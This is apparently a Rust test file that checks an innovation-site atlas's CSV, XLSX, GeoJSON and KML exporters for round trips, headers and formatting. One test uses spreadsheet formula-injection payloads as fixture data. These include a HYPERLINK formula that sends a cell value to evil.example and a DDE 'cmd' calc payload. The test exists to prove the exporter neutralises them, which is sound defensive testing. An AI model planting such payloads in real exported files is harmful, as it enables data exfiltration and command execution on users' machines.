//! Export writers and their round trips through the import readers.

mod common;

use atlas_core::export::{
    chain_names, export_sites, filter_label, site_to_feature, site_writer, suggested_filename,
    CsvSiteWriter, ExportError, ExportFormat, FilterLabel, GeoJsonSiteWriter, KmlSiteWriter,
    XlsxSiteWriter, LIST_COLUMNS, XLSX_ABOUT_SHEET, XLSX_DATA_SHEET, XLSX_LIST_SHEET,
};
use atlas_core::import::{feature_to_raw_row, parse_sites, read_table, FileFormat};
use atlas_core::record::{header_row, site_from_row};
use atlas_core::{Column, HeaderLang, Labelled, Site, SiteFilter};
use common::*;

fn export_bytes(format: ExportFormat, sites: &[Site], lang: HeaderLang) -> Vec<u8> {
    let mut out = Vec::new();
    let n = export_sites(
        format,
        &mut out,
        sites.iter().map(Ok::<_, std::convert::Infallible>),
        &ctx(),
        lang,
        &meta(),
    )
    .expect("export");
    assert_eq!(n, sites.len() as u64);
    out
}

fn import(bytes: &[u8], format: FileFormat) -> Vec<Site> {
    let parsed = parse_sites(bytes, format, &ctx(), None).expect("import");
    assert!(parsed.errors.is_empty(), "{:#?}", parsed.errors);
    assert_eq!(parsed.rows, parsed.sites.len() as u64);
    parsed.sites.into_iter().map(|(_, s)| s).collect()
}

fn assert_same_sites(a: &[Site], b: &[Site]) {
    assert_eq!(a.len(), b.len());
    for (x, y) in a.iter().zip(b) {
        assert_eq!(x, y, "site {} changed", x.id);
    }
}

#[test]
fn csv_export_import_export_is_byte_identical_with_chinese_headers() {
    let sites = all_sites();
    let first = export_bytes(ExportFormat::Csv, &sites, HeaderLang::Zh);
    let again = import(&first, FileFormat::Csv);
    assert_same_sites(&sites, &again);
    let second = export_bytes(ExportFormat::Csv, &again, HeaderLang::Zh);
    assert_eq!(first, second);
    assert!(first.starts_with("\u{feff}编号,名称,".as_bytes()));
}

#[test]
fn csv_export_import_export_is_byte_identical_with_english_headers() {
    let sites = all_sites();
    let first = export_bytes(ExportFormat::Csv, &sites, HeaderLang::En);
    let again = import(&first, FileFormat::Csv);
    assert_same_sites(&sites, &again);
    let second = export_bytes(ExportFormat::Csv, &again, HeaderLang::En);
    assert_eq!(first, second);
    let text = String::from_utf8(first).unwrap();
    let header = text
        .trim_start_matches('\u{feff}')
        .split("\r\n")
        .next()
        .unwrap();
    assert_eq!(header, header_row(HeaderLang::En).join(","));
}

#[test]
fn csv_export_uses_a_bom_and_crlf_line_ends() {
    let sites = edge_sites();
    let bytes = export_bytes(ExportFormat::Csv, &sites, HeaderLang::Zh);
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(bytes).unwrap();
    assert!(text.ends_with("\r\n"));
    // Every record ends in CRLF; the LF inside the quoted note stays a bare LF.
    assert_eq!(text.matches("\r\n").count(), sites.len() + 1);
    assert!(text.contains("第一行\t制表符\n第二行 \"\"双引号\"\""));
}

#[test]
fn xlsx_export_imports_back_to_the_same_sites() {
    for lang in [HeaderLang::Zh, HeaderLang::En] {
        let sites = all_sites();
        let bytes = export_bytes(ExportFormat::Xlsx, &sites, lang);
        let again = import(&bytes, FileFormat::Xlsx);
        assert_same_sites(&sites, &again);
        // And a second round gives the same sites again.
        let bytes2 = export_bytes(ExportFormat::Xlsx, &again, lang);
        assert_same_sites(&sites, &import(&bytes2, FileFormat::Xlsx));
    }
}

#[test]
fn geojson_export_imports_back_to_the_same_sites() {
    let sites = all_sites();
    let bytes = export_bytes(ExportFormat::GeoJson, &sites, HeaderLang::Zh);
    let again = import(&bytes, FileFormat::GeoJson);
    assert_same_sites(&sites, &again);
    assert_eq!(FileFormat::sniff(&bytes), Some(FileFormat::GeoJson));
}

#[test]
fn a_feature_turns_back_into_the_row_it_was_made_from() {
    for site in all_sites() {
        let f = site_to_feature(&site, &ctx());
        let raw = feature_to_raw_row(&f);
        let back = site_from_row(&raw, &ctx(), None).unwrap();
        assert_eq!(back, site);
    }
}

#[test]
fn geojson_features_have_typed_properties_and_chinese_labels() {
    let sites = edge_sites();
    let bytes = export_bytes(ExportFormat::GeoJson, &sites, HeaderLang::Zh);
    let v: serde_json::Value = serde_json::from_slice(&bytes).unwrap();
    assert_eq!(v["type"], "FeatureCollection");
    assert_eq!(v["numberReturned"], sites.len());
    assert_eq!(v["metadata"]["filter"]["category"], "carrier_platform");
    assert_eq!(v["metadata"]["generated_at"], "2026-11-26T10:30:00+08:00");
    let features = v["features"].as_array().unwrap();
    assert_eq!(features.len(), sites.len());
    let by_id = |id: &str| {
        features
            .iter()
            .find(|f| f["id"] == id)
            .unwrap_or_else(|| panic!("feature {id}"))
    };
    let poly = by_id("edge-polygon");
    assert_eq!(poly["geometry"]["type"], "Polygon");
    assert_eq!(poly["geometry"]["coordinates"].as_array().unwrap().len(), 2);
    assert!(poly["properties"]["lon"].is_f64());
    assert_eq!(poly["properties"]["area_m2"], 1234567.5);
    assert_eq!(poly["properties"]["available_area_m2"], 0);
    assert!(poly["properties"].get("polygon_wkt").is_none());
    let ny = by_id("edge-partner-ny");
    assert_eq!(ny["geometry"]["type"], "Point");
    assert_eq!(ny["geometry"]["coordinates"][0], -73.9);
    assert_eq!(ny["properties"]["lon"], -73.9);
    assert_eq!(ny["properties"]["phone"], "+86 668 2345678");
    assert_eq!(ny["properties"]["established"], 1831);
    assert_eq!(ny["properties"]["category"], "innovation_resource");
    assert_eq!(ny["properties"]["category_zh"], "创新资源");
    assert_eq!(ny["properties"]["kind_zh"], "大学");
    assert_eq!(ny["properties"]["scope"], "partner");
    assert_eq!(ny["properties"]["outside_district"], true);
    assert_eq!(ny["properties"]["approximate"], false);
    assert!(ny["properties"]["address"].is_null());
    let zh = by_id("edge-zh");
    assert_eq!(zh["properties"]["town_name"], "河西街道");
    assert_eq!(zh["properties"]["approximate"], true);
    assert_eq!(zh["properties"]["location_precision_zh"], "镇街级（近似）");
    let gcj = by_id("edge-gcj");
    assert_eq!(gcj["properties"]["original_crs"], "gcj02");
    assert_eq!(gcj["properties"]["original_lon"], 110.9254321);
}

#[test]
fn xlsx_has_chinese_headers_a_frozen_bold_header_an_autofilter_and_an_about_sheet() {
    use calamine::{Data, Reader, Xlsx};
    let sites = all_sites();
    let bytes = export_bytes(ExportFormat::Xlsx, &sites, HeaderLang::Zh);
    let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(&bytes)).unwrap();
    assert_eq!(
        wb.sheet_names(),
        vec![XLSX_LIST_SHEET, XLSX_DATA_SHEET, XLSX_ABOUT_SHEET]
    );
    let range = wb.worksheet_range(XLSX_DATA_SHEET).unwrap();
    let headers: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|d| d.to_string())
        .collect();
    assert_eq!(headers, header_row(HeaderLang::Zh));
    assert_eq!(range.height(), sites.len() + 1);
    // Numbers are numbers, phones and codes are text.
    let col = |c: Column| Column::ALL.iter().position(|x| *x == c).unwrap();
    let ny_row = range
        .rows()
        .find(|r| r[0] == Data::String("edge-partner-ny".into()))
        .unwrap();
    assert_eq!(ny_row[col(Column::Lon)], Data::Float(-73.9));
    assert_eq!(
        ny_row[col(Column::Phone)],
        Data::String("+86 668 2345678".into())
    );
    assert_eq!(
        ny_row[col(Column::Category)],
        Data::String("创新资源".into())
    );
    let eq_row = range
        .rows()
        .find(|r| r[0] == Data::String("edge-eq".into()))
        .unwrap();
    assert_eq!(
        eq_row[col(Column::TownCode)],
        Data::String("440902002".into())
    );

    let about = wb.worksheet_range(XLSX_ABOUT_SHEET).unwrap();
    let text: Vec<String> = about
        .rows()
        .map(|r| {
            r.iter()
                .map(|d| d.to_string())
                .collect::<Vec<_>>()
                .join(" | ")
        })
        .collect();
    let all = text.join("\n");
    assert!(
        all.contains("类别 category | carrier_platform（载体平台）"),
        "{all}"
    );
    assert!(
        all.contains("产业链 chain | petrochemical（石油化工）"),
        "{all}"
    );
    assert!(all.contains("关键词 q | 石化"), "{all}");
    assert!(all.contains("2026-11-26 10:30:00 +08:00"), "{all}");
    assert!(
        all.contains(&format!("记录数 rows | {}", sites.len())),
        "{all}"
    );
    assert!(all.contains("Innovation Atlas 默认数据集"), "{all}");
    assert!(all.contains("WGS84"), "{all}");

    // What calamine cannot tell: look at the sheet XML.
    let sheet = zip_entry(&bytes, "xl/worksheets/sheet2.xml");
    assert!(
        sheet.contains("<pane ySplit=\"1\" topLeftCell=\"A2\""),
        "frozen header row"
    );
    assert!(sheet.contains("state=\"frozen\""));
    let last = format!("<autoFilter ref=\"A1:AG{}\"", sites.len() + 1);
    assert!(sheet.contains(&last), "autofilter over the data");
    assert!(sheet.contains("<cols>"), "column widths");
    let styles = zip_entry(&bytes, "xl/styles.xml");
    assert!(styles.contains("<b/>"), "bold header");
    let workbook = zip_entry(&bytes, "xl/workbook.xml");
    assert!(workbook.contains("_xlnm._FilterDatabase"));
}

#[test]
fn xlsx_column_widths_count_chinese_double_and_are_capped() {
    let sites = all_sites();
    let bytes = export_bytes(ExportFormat::Xlsx, &sites, HeaderLang::Zh);
    let sheet = zip_entry(&bytes, "xl/worksheets/sheet2.xml");
    let cols = &sheet[sheet.find("<cols>").unwrap()..sheet.find("</cols>").unwrap()];
    let widths: Vec<f64> = cols
        .split("width=\"")
        .skip(1)
        .map(|s| s[..s.find('"').unwrap()].parse().unwrap())
        .collect();
    assert!(!widths.is_empty());
    // rust_xlsxwriter stores widths with padding; 60 characters is about 60.7.
    assert!(widths.iter().all(|w| *w <= 61.0), "{widths:?}");
    // The Chinese name column (8 CJK characters and more) is wider than the id column header.
    assert!(
        widths.iter().any(|w| *w >= 60.0),
        "long source/notes columns hit the cap"
    );
}

#[test]
fn formula_like_text_is_inert_in_csv_and_xlsx_while_numbers_and_phones_survive() {
    let sites = edge_sites();
    // CSV: dangerous text gets a leading quote; numbers and phone-like text do not.
    let csv = String::from_utf8(export_bytes(ExportFormat::Csv, &sites, HeaderLang::En)).unwrap();
    let table = read_table(csv.as_bytes(), FileFormat::Csv).unwrap();
    assert!(csv.contains(",\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"点击查看\"\")\","));
    assert!(csv.contains(",'@SUM(1+1),"));
    assert!(csv.contains(",'-1+1 测试企业,"));
    assert!(csv.contains(",'-2+3+cmd|' /C calc'!A0,"));
    assert!(csv.contains(",'+SUM(A1:A2),"));
    assert!(csv.contains(",''=已经带引号,"));
    assert!(
        csv.contains(",-73.9,40.7128,"),
        "a negative coordinate is a plain number"
    );
    assert!(
        csv.contains(",+86 668 2345678,"),
        "a phone number is left alone"
    );
    // No field of the CSV starts with a trigger unless it is a number or phone-like.
    let mut rdr = csv::ReaderBuilder::new()
        .has_headers(true)
        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    for rec in rdr.records() {
        for field in rec.unwrap().iter() {
            if field.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                assert!(
                    field.parse::<f64>().is_ok() || atlas_core::export::is_phone_like(field),
                    "live formula in CSV: {field:?}"
                );
            }
        }
    }
    // Reading strips exactly the added quote.
    let id_col = table.headers.iter().position(|h| h == "id").unwrap();
    let name_col = table.headers.iter().position(|h| h == "name_zh").unwrap();
    let name_of = |id: &str| {
        table
            .rows
            .iter()
            .find(|(_, r)| r[id_col] == id)
            .map(|(_, r)| r[name_col].clone())
            .unwrap()
    };
    assert!(name_of("edge-eq").starts_with("=HYPERLINK("));
    assert_eq!(name_of("edge-quote"), "'=已经带引号");

    // XLSX: every text is a string cell (never a formula); trigger text has the quote-prefix style.
    let xlsx = export_bytes(ExportFormat::Xlsx, &sites, HeaderLang::En);
    let list = zip_entry(&xlsx, "xl/worksheets/sheet1.xml");
    assert!(!list.contains("<f>"), "no formula cells in the list sheet");
    let sheet = zip_entry(&xlsx, "xl/worksheets/sheet2.xml");
    assert!(!sheet.contains("<f>"), "no formula cells");
    assert!(
        sheet.contains(
            "<t>=HYPERLINK(&quot;http://evil.example/?q=&quot;&amp;A1,&quot;点击查看&quot;)</t>"
        ) || sheet.contains("<t>=HYPERLINK(\"http://evil.example/?q=\"&amp;A1,\"点击查看\")</t>"),
        "value unchanged in the workbook"
    );
    let styles = zip_entry(&xlsx, "xl/styles.xml");
    assert!(styles.contains("quotePrefix=\"1\""));
    let parsed = import(&xlsx, FileFormat::Xlsx);
    let eq = parsed.iter().find(|s| s.id.as_str() == "edge-eq").unwrap();
    assert!(eq.name_zh.starts_with("=HYPERLINK("));
    let ny = parsed
        .iter()
        .find(|s| s.id.as_str() == "edge-partner-ny")
        .unwrap();
    assert_eq!(ny.phone.as_deref(), Some("+86 668 2345678"));
    assert_eq!(ny.marker().unwrap().lon.get(), -73.9);
}

#[test]
fn kml_is_well_formed_utf8_with_one_placemark_per_site_and_chinese_display_names() {
    use quick_xml::events::Event;
    let sites = all_sites();
    let bytes = export_bytes(ExportFormat::Kml, &sites, HeaderLang::Zh);
    let text = String::from_utf8(bytes.clone()).unwrap();
    assert!(text.starts_with("<?xml version=\"1.0\" encoding=\"UTF-8\"?>"));
    assert!(text.contains("<kml xmlns=\"http://www.opengis.net/kml/2.2\">"));
    let mut reader = quick_xml::Reader::from_reader(bytes.as_slice());
    let mut buf = Vec::new();
    let (mut placemarks, mut polygons, mut data, mut depth) = (0, 0, 0, 0i32);
    let mut texts = Vec::new();
    loop {
        match reader.read_event_into(&mut buf).unwrap() {
            Event::Start(e) => {
                depth += 1;
                match e.name().as_ref() {
                    "Placemark" => placemarks += 1,
                    "Polygon" => polygons += 1,
                    "Data" => data += 1,
                    _ => {}
                }
            }
            Event::End(_) => depth -= 1,
            Event::Text(t) => texts.push(t.to_string()),
            Event::GeneralRef(r) => texts.push(format!("&{};", &*r)),
            Event::Eof => break,
            _ => {}
        }
        buf.clear();
    }
    assert_eq!(depth, 0, "balanced");
    assert_eq!(placemarks, sites.len());
    assert_eq!(polygons, 1);
    assert_eq!(data, sites.len() * Column::ALL.len());
    assert!(text.contains("<displayName>名称</displayName>"));
    assert!(text.contains("<name>茂南区中文测试园区</name>"));
    assert!(text.contains("<innerBoundaryIs>"));
    assert!(text.contains("<coordinates>-73.9,40.7128</coordinates>"));
    assert!(text.contains("<Data name=\"phone\">"));
    assert!(text.contains("类别 category: carrier_platform（载体平台）"));
    assert!(text.contains("2026-11-26 10:30:00 +08:00"));
    // Markup in the data is escaped, not interpreted.
    assert!(text.contains("&quot;点击查看&quot;") || text.contains("\"点击查看\""));
    assert!(!text.contains("<SUM"));
    assert!(texts
        .iter()
        .any(|t| t.contains("New York Partner University · 创新资源")));
}

#[test]
fn writers_stream_site_by_site_and_report_the_count() {
    let sites = edge_sites();
    let c = ctx();
    let m = meta();
    let mut csv = CsvSiteWriter::new(Vec::new(), &c, HeaderLang::Zh, &m).unwrap();
    let mut xlsx = XlsxSiteWriter::new(Vec::new(), &c, HeaderLang::Zh, &m).unwrap();
    let mut gj = GeoJsonSiteWriter::new(Vec::new(), &c, HeaderLang::Zh, &m).unwrap();
    let mut kml = KmlSiteWriter::new(Vec::new(), &c, HeaderLang::Zh, &m).unwrap();
    for s in &sites {
        csv.write_site(s).unwrap();
        xlsx.write_site(s).unwrap();
        gj.write_site(s).unwrap();
        kml.write_site(s).unwrap();
    }
    assert!(!csv.finish().unwrap().is_empty());
    assert!(xlsx.finish().unwrap().starts_with(b"PK\x03\x04"));
    assert!(gj.finish().unwrap().ends_with(b"}\n"));
    assert!(kml.finish().unwrap().ends_with(b"</kml>\n"));

    for format in ExportFormat::STREAMED {
        let mut w = site_writer(format, Vec::new(), &c, HeaderLang::En, &m).unwrap();
        for s in &sites {
            w.write_site(s).unwrap();
        }
        assert_eq!(w.rows_written(), sites.len() as u64);
        assert_eq!(w.finish_boxed().unwrap(), sites.len() as u64);
    }
}

#[test]
fn empty_exports_are_valid_files() {
    for format in ExportFormat::STREAMED {
        let out = export_bytes(format, &[], HeaderLang::Zh);
        match format {
            ExportFormat::Csv => {
                let t = read_table(&out, FileFormat::Csv).unwrap();
                assert_eq!(t.headers, header_row(HeaderLang::Zh));
                assert!(t.rows.is_empty());
            }
            ExportFormat::GeoJson => {
                let v: serde_json::Value = serde_json::from_slice(&out).unwrap();
                assert_eq!(v["features"].as_array().unwrap().len(), 0);
            }
            ExportFormat::Xlsx => {
                let t = read_table(&out, FileFormat::Xlsx).unwrap();
                assert_eq!(t.headers, header_row(HeaderLang::Zh));
            }
            ExportFormat::Kml => assert!(String::from_utf8(out).unwrap().ends_with("</kml>\n")),
            ExportFormat::Gpkg => unreachable!("not a streamed format"),
        }
    }
}

#[test]
fn an_error_from_the_site_source_stops_the_export_and_is_reported() {
    let sites = edge_sites();
    let items: Vec<Result<&Site, std::io::Error>> = vec![
        Ok(&sites[0]),
        Err(std::io::Error::other("database cursor failed")),
        Ok(&sites[1]),
    ];
    let err = export_sites(
        ExportFormat::GeoJson,
        Vec::new(),
        items,
        &ctx(),
        HeaderLang::Zh,
        &meta(),
    )
    .unwrap_err();
    assert!(matches!(err, ExportError::Source(_)));
    assert!(err.to_string().contains("database cursor failed"));
}

#[test]
fn the_xlsx_writer_can_keep_its_temporary_file_in_a_given_directory() {
    let dir = tempfile::tempdir().unwrap();
    let sites = edge_sites();
    let mut w = XlsxSiteWriter::new_in(
        Vec::new(),
        &ctx(),
        HeaderLang::Zh,
        &meta(),
        Some(dir.path()),
    )
    .unwrap();
    for s in &sites {
        w.write_site(s).unwrap();
    }
    let bytes = w.finish().unwrap();
    assert_same_sites(&sites, &import(&bytes, FileFormat::Xlsx));
    let missing = dir.path().join("does-not-exist");
    assert!(
        XlsxSiteWriter::new_in(Vec::new(), &ctx(), HeaderLang::Zh, &meta(), Some(&missing))
            .is_err()
    );
}

fn label_of(query: &str) -> FilterLabel {
    let pairs: Vec<(String, String)> = SiteFilter::parse_query(query)
        .expect("a valid filter")
        .to_pairs()
        .into_iter()
        .map(|(k, v)| (k.to_string(), v))
        .collect();
    filter_label(&pairs, &ctx())
}

#[test]
fn suggested_filenames_say_the_filter_in_chinese_with_an_ascii_fallback() {
    let when = chrono::NaiveDate::from_ymd_opt(2026, 11, 26)
        .unwrap()
        .and_hms_opt(10, 30, 0)
        .unwrap();
    let name = |q: &str, f: ExportFormat| suggested_filename(&label_of(q), f, when);
    assert_eq!(
        name(
            "category=carrier_platform&chain=petrochemical",
            ExportFormat::Xlsx
        ),
        (
            "创新资源布局_载体平台_石油化工_20261126-1030.xlsx".to_string(),
            "innovation-atlas_carrier_platform_petrochemical_20261126-1030.xlsx".to_string()
        )
    );
    assert_eq!(
        name("kind=incubator", ExportFormat::Csv).1,
        "innovation-atlas_incubator_20261126-1030.csv"
    );
    assert_eq!(
        name("", ExportFormat::GeoJson),
        (
            "创新资源布局_20261126-1030.geojson".to_string(),
            "innovation-atlas_20261126-1030.geojson".to_string()
        )
    );
    // A link, a township and a search, by name.
    let (zh, ascii) = name(
        "link=petrochemical.fine_chemicals&town=440902002&q=石化/园区",
        ExportFormat::Kml,
    );
    let town = ctx()
        .divisions
        .iter()
        .find(|d| d.code.as_str() == "440902002")
        .unwrap()
        .name_zh
        .clone();
    assert_eq!(
        zh,
        format!("创新资源布局_精细化工_{town}_搜索“石化_园区”_20261126-1030.kml")
    );
    assert_eq!(
        ascii,
        "innovation-atlas_petrochemical-fine_chemicals_440902002_20261126-1030.kml"
    );
    // Many values are shortened: two names and how many there are.
    let (zh, _) = name(
        "category=carrier_platform,key_enterprise,innovation_resource",
        ExportFormat::Xlsx,
    );
    assert!(
        zh.starts_with("创新资源布局_载体平台、重点企业等3项_"),
        "{zh}"
    );
    let (zh, _) = name(
        &format!("q={}", "很长的搜索".repeat(10)),
        ExportFormat::Xlsx,
    );
    assert!(zh.chars().count() < 50, "{zh}");
}

#[test]
fn the_list_sheet_comes_first_with_a_title_numbers_and_readable_columns() {
    use calamine::{Data, Reader, Xlsx};
    let sites = all_sites();
    let bytes = export_bytes(ExportFormat::Xlsx, &sites, HeaderLang::En);
    let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(&bytes)).unwrap();
    let range = wb.worksheet_range(XLSX_LIST_SHEET).unwrap();
    let rows: Vec<Vec<String>> = range
        .rows()
        .map(|r| r.iter().map(|d| d.to_string()).collect())
        .collect();
    assert_eq!(
        rows[0][0],
        "茂南区科技创新要素资源清单 · 载体平台 · 石油化工 · 搜索“石化”"
    );
    assert!(
        rows[1][0].starts_with("生成时间 2026-11-26 10:30"),
        "{}",
        rows[1][0]
    );
    let heads: Vec<&str> = std::iter::once("序号")
        .chain(LIST_COLUMNS.iter().map(|(h, _)| *h))
        .collect();
    assert_eq!(rows[2], heads);
    assert_eq!(rows.len(), sites.len() + 3);
    assert_eq!(range.get((3, 0)), Some(&Data::Float(1.0)));
    // Names, not ids, whatever the header language of the full-field sheet.
    let at = |id: &str| {
        let i = sites.iter().position(|s| s.id.as_str() == id).unwrap();
        &rows[i + 3]
    };
    let petro = sites
        .iter()
        .find(|s| s.chains.iter().any(|c| c.link.is_some()))
        .expect("a site on a link");
    let row = at(petro.id.as_str());
    assert_eq!(row[1], petro.name_zh);
    assert_eq!(row[2], petro.category.zh());
    assert_eq!(row[4], chain_names(&petro.chains, ctx().chains));
    assert!(row[4].contains('·'), "{}", row[4]);
    assert!(!row[4].contains('.'), "{}", row[4]);
    let zh = at("edge-zh");
    assert_eq!(zh[5], "河西街道");
    assert_eq!(zh[10], "镇街级（近似）");
}

#[test]
fn xlsx_export_import_export_gives_the_same_full_field_sheet() {
    use calamine::{Reader, Xlsx};
    let sheet = |bytes: &[u8]| -> Vec<Vec<String>> {
        let mut wb: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
        wb.worksheet_range(XLSX_DATA_SHEET)
            .unwrap()
            .rows()
            .map(|r| r.iter().map(|d| format!("{d:?}")).collect())
            .collect()
    };
    let sites = all_sites();
    let first = export_bytes(ExportFormat::Xlsx, &sites, HeaderLang::Zh);
    let parsed = parse_sites(&first, FileFormat::Xlsx, &ctx(), None).unwrap();
    assert!(parsed.errors.is_empty(), "{:#?}", parsed.errors);
    let back: Vec<Site> = parsed.sites.into_iter().map(|(_, s)| s).collect();
    assert_eq!(back, sites);
    let second = export_bytes(ExportFormat::Xlsx, &back, HeaderLang::Zh);
    assert_eq!(sheet(&first), sheet(&second));
}

#[test]
fn sites_without_location_export_without_coordinates_and_read_back_unknown() {
    use atlas_core::LocationPrecision;
    let sites = all_sites();
    let unknown: Vec<&Site> = sites
        .iter()
        .filter(|s| s.location.precision == LocationPrecision::Unknown)
        .collect();
    assert!(!unknown.is_empty());
    // CSV: empty lon/lat/crs and 位置待定.
    let csv = String::from_utf8(export_bytes(ExportFormat::Csv, &sites, HeaderLang::Zh)).unwrap();
    let header: Vec<&str> = header_row(HeaderLang::Zh);
    let col = |c: Column| header.iter().position(|h| *h == c.zh()).unwrap();
    let table = read_table(csv.as_bytes(), FileFormat::Csv).unwrap();
    for s in &unknown {
        let (_, row) = table
            .rows
            .iter()
            .find(|(_, r)| r[col(Column::Id)] == s.id.as_str())
            .unwrap();
        assert_eq!(row[col(Column::Lon)], "");
        assert_eq!(row[col(Column::Lat)], "");
        assert_eq!(row[col(Column::LocationPrecision)], "位置待定");
    }
    // GeoJSON: null geometry, read back as unknown.
    let geojson = export_bytes(ExportFormat::GeoJson, &sites, HeaderLang::Zh);
    let v: serde_json::Value = serde_json::from_slice(&geojson).unwrap();
    let nulls = v["features"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["geometry"].is_null())
        .count();
    assert_eq!(nulls, unknown.len());
    let again = import(&geojson, FileFormat::GeoJson);
    assert_eq!(
        again
            .iter()
            .filter(|s| s.location.precision == LocationPrecision::Unknown
                && s.location.geometry.is_none())
            .count(),
        unknown.len()
    );
    // KML: a Placemark per site, a Point or Polygon only for sites with a location.
    let kml = String::from_utf8(export_bytes(ExportFormat::Kml, &sites, HeaderLang::Zh)).unwrap();
    assert_eq!(kml.matches("<Placemark>").count(), sites.len());
    assert_eq!(
        kml.matches("<Point>").count() + kml.matches("<Polygon>").count(),
        sites.len() - unknown.len()
    );
}

#[test]
fn numbers_are_exported_exactly_in_the_columns_typed_as_numbers() {
    use atlas_core::record::{cell_ref, CellRef};
    use atlas_core::ValueType;
    let ctx = ctx();
    let mut seen_number = std::collections::HashSet::new();
    for site in all_sites() {
        for c in Column::ALL {
            for lang in [HeaderLang::Zh, HeaderLang::En] {
                match (cell_ref(&site, c, &ctx, lang), c.value_type()) {
                    (CellRef::Empty, _) | (CellRef::Text(_), ValueType::Text) => {}
                    (CellRef::Number(n), ValueType::Real) => {
                        seen_number.insert(c);
                        assert!(n.is_finite(), "{c:?} {n}");
                    }
                    (CellRef::Number(n), ValueType::Integer) => {
                        seen_number.insert(c);
                        assert_eq!(n.fract(), 0.0, "{c:?} {n}");
                    }
                    (other, t) => panic!("{c:?} is typed {t:?} but exports {other:?}"),
                }
            }
        }
    }
    // Every numeric column holds a number somewhere in the dataset and its edge cases.
    for c in Column::ALL {
        if c.value_type() != ValueType::Text {
            assert!(seen_number.contains(&c), "{c:?} never held a number");
        }
    }
}
